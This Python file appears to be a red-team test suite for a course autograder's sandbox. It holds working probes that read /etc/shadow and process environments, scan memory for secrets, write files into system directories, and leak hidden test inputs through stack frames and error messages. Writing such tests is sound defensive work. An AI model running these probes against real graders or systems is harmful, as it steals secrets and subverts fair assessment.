"""Spying: files, memory, frames, the environment, what others left behind."""

from attacks.attack import HONEST, MEAN, Attack, probe

# Searches all memory that is mapped, through a pipe: the kernel says what is readable.
SCAN = r"""
import ctypes, gc, os, re

def readable(start, n_pages=1, size=4096):
    found = []
    reader, writer = os.pipe()
    libc = ctypes.CDLL(None)
    for page in range(start, start + n_pages * size, size):
        if libc.write(writer, ctypes.c_void_p(page), size) == size:
            found.append(os.read(reader, size))
        elif found:
            break
    os.close(reader)
    os.close(writer)
    return b"".join(found)

def stack():
    top = ctypes.c_void_p.in_dll(ctypes.CDLL(None), "__libc_stack_end").value
    return readable(top & ~4095, 64)

def heap(most=3000):
    starts = {id(thing) & ~0xFFFFF for thing in gc.get_objects()}
    starts |= {id(thing) & ~0xFFFFF for thing in range(10**6, 10**6 + 10)}
    return (readable(start, 256) for start in sorted(starts)[:most])

def search():
    n_bytes, found = 0, set()
    for part in (stack(), *heap()):
        n_bytes += len(part)
        found.update(re.findall(b"can" + b"ary-[a-z]+-[0-9a-f]{4}", part))
        found.update(re.findall(b"IDENTITY_EDU" + b"_[A-Z_]+=[ -~]+", part))
    return f"searched {n_bytes >> 20} MB: {sorted(found)}"
"""

ATTACKS = (
    probe(
        "course-files",
        "open the solutions, the gradebook, the secret and another submission",
        """
course = "{course}"
names = ["", "solutions/00_target/00_target.ipynb", ".grading/gradebook.db", "secret",
         ".grading/submitted/other/00_target/00_target.ipynb", ".grading/results"]
for start in (course, "/proc/self/root" + course, "/proc/1/root" + course,
              "/proc/self/cwd/../../../../.." + course, "../../../../../.." + course):
    for name in names:
        attempt(name, os.stat, f"{start}/{name}")
        attempt(name, open, f"{start}/{name}", "r+b")
""",
    ),
    probe(
        "whole-tree",
        "walk over everything that can be seen",
        """
print(sorted(os.listdir("/")))
foreign = ("usr", "bin", "sbin", "lib", "lib32", "lib64", "libx32", "dev", "scratch",
           "nix")
for place in os.listdir("/"):
    if place in foreign:
        continue
    for folder, folders, files in os.walk("/" + place):
        inside = ("lib", "bin", "include", "share", "pkgs", "__pycache__")
        folders[:] = [name for name in folders if name not in inside]
        for name in files:
            if name.endswith((".ipynb", ".db", ".sqlite")) or "secret" in name:
                print("HOLE" * name.endswith((".ipynb", ".db")), folder, name)
for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/mnt",
             "/run", "/var/log", "/sys", "/proc", "/proc/self/environ", "/boot",
             "/proc/1/cmdline", "/proc/sysrq-trigger", "/sys/fs/cgroup", "/dev/mem",
             "/dev/kmsg", "/dev/tty", "/dev/ptmx", "/dev/fuse", "/dev/kvm", "/dev/shm"):
    attempt(path, os.stat, path)
""",
    ),
    probe(
        "writing-outside",
        "write where others would find it",
        """
import sys, identity_edu, numpy
places = ["/", "/usr", "/usr/lib", "/bin", "/dev", "/tmp", "/etc", "/var", "..",
          sys.prefix, os.path.dirname(identity_edu.__file__),
          os.path.dirname(numpy.__file__), "{course}", "{home}", "{temporary}"]
for place in places:
    attempt("write " + place, open, place + "/attacker-was-here", "w")
    attempt("link " + place, os.symlink, "/dev/null", place + "/attacker-was-here")
    attempt("folder " + place, os.mkdir, place + "/attacker-was-here")
attempt("chmod", os.chmod, sys.executable, 0o777)
attempt("append", open, identity_edu.__file__, "a")
attempt("cached", os.makedirs, os.path.dirname(numpy.__file__) + "/__pycache__/x")
for name in os.listdir("/dev"):
    attempt("mknod " + name, os.mknod, "node", 0o60666, os.makedev(8, 0))
""",
    ),
    probe(
        "open-files-of-the-grader",
        "use files that the process inherited",
        """
import stat
for number in range(64):
    try:
        found = os.fstat(number)
    except OSError:
        continue
    kind = stat.S_IFMT(found.st_mode)
    is_known = stat.S_ISSOCK(kind) and number == 3 or stat.S_ISCHR(kind)
    print("" if is_known else "HOLE", number, oct(kind))
    attempt("list", os.listdir, number) if stat.S_ISDIR(kind) else None
    attempt("up", lambda: os.open("..", os.O_RDONLY, dir_fd=number))
attempt("outside", os.stat, "../../../{course}")
""",
    ),
    Attack(
        "frames",
        "walk over the frames of the caller and print what the tests hold",
        answers={
            "mean-answer": """
import sys
def mean(x):
    frame, found = sys._getframe(), []
    while frame is not None:
        for names in (frame.f_locals, frame.f_globals):
            found += [f"{name}={value!r:.200}" for name, value in names.items()]
        frame = frame.f_back
    text = "".join(found)
    at = text.find("wanted")
    raise ValueError(f"{len(found)} names {at} {text[at:at + 300] if at > 0 else ''}")
"""
        },
        shows=r"\d+ names",
    ),
    Attack(
        "collector",
        "search every object that the collector knows for the tests",
        answers={
            "mean-answer": """
import gc
def mean(x):
    found = []
    for thing in gc.get_objects():
        try:
            text = repr(thing) if isinstance(thing, (dict, list, tuple)) else ""
        except BaseException:
            continue
        at = text.find("can" + "ary-")
        if at >= 0:
            found.append(text[at:at + 40])
    raise ValueError(f"searched {len(gc.get_objects())}: {found[:20]}")
"""
        },
        shows=r"searched \d+",
        slow=True,
    ),
    Attack(
        "memory-of-the-process",
        "search the stack and the heap for the secret, the tests and other students",
        answers={
            "mean-answer": SCAN + "\ndef mean(x):\n    raise ValueError(search())"
        },
        first=SCAN + "\nprint(search())",
        shows=r"searched [1-9]\d* MB",
    ),
    Attack(
        "environment",
        "print the environment, the arguments and the names of the machine",
        answers=HONEST,
        first="""
import getpass, os, platform, sys
print(dict(os.environ), sys.argv, sys.orig_argv, sys.path, os.getcwd())
print(os.uname(), "HOLE" * (platform.node() != os.uname().nodename))
print(os.getuid(), os.getgid(), os.getgroups(), os.getpid(), os.getppid())
main = sys.modules["__main__"]
print({name: repr(value)[:200] for name, value in vars(main).items()})
for call in (getpass.getuser, os.getlogin):
    try:
        print(call())
    except Exception as error:
        print("refused", type(error).__name__)
""",
        loses=(),
        shows="refused",
    ),
    Attack(
        "left-behind",
        "look for what another submission left, and leave something",
        answers=HONEST,
        first="""
import os, tempfile
names = os.listdir() + os.listdir(tempfile.gettempdir())
print("HOLE" if any("left" in name for name in names) else "empty", names)
for place in (".", tempfile.gettempdir(), "/dev"):
    try:
        open(place + "/left", "w").write("attacker-was-here")
    except OSError:
        pass
""",
        last="import os\nprint(os.path.exists('left'))",
        loses=(),
        shows="empty",
    ),
    Attack(
        "source-of-the-course",
        "read the sources of the checks and of the grader, which are public",
        answers={
            "mean-answer": """
import inspect, identity_edu
from identity_edu import checks
text = inspect.getsource(checks)
def mean(x):
    raise ValueError("HOLE" if "can" + "ary-" in text else f"read {len(text)}")
"""
        },
        shows=r"read \d+",
    ),
    Attack(
        "hidden-inputs-in-errors",
        "tell the inputs of the hidden tests by errors that are shown",
        answers={
            "mean-answer": """
def mean(x):
    raise NotImplementedError(repr(list(x)))
""",
            "gram-answer": """
def gram(A):
    if A.size > 4:
        raise NameError(f"the hidden matrix: LEAK {A!r}", name="gram")
    return A.T @ A
""",
        },
        loses=(*MEAN, "gram-hidden"),
    ),
    Attack(
        "hidden-inputs-later",
        "keep the inputs of the hidden tests, and tell them in a later visible one",
        answers={
            "mean-answer": """
seen = []
def mean(x):
    seen.append(list(x))
    return sum(x) / len(x)
""",
            "gram-answer": """
def gram(A):
    print(seen)
    return A.T @ A
""",
            "triangle-answer": """
def triangle(n):
    raise ValueError(repr(seen))
""",
        },
        loses=("triangle-check",),
    ),
    Attack(
        "hidden-inputs-as-results",
        "return the inputs of the hidden tests, for the message to show them",
        answers={
            "mean-answer": "def mean(x):\n    return list(map(float, x))",
            "choice-answer": "choice = 'x' * 100_000",
        },
        loses=(*MEAN, "choice-check"),
    ),
)
